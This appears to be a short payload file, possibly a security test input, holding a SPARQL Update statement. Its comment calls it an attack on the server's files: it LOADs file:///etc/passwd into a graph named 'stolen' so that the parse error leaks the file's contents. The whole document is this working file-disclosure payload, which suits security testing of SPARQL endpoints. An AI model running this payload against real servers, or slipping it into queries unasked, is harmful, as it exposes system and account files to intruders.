# Attacks the server's files: LOAD reads a local file into the store, and its parse error quotes the file.
LOAD <file:///etc/passwd> INTO GRAPH <urn:sst:graph:stolen>
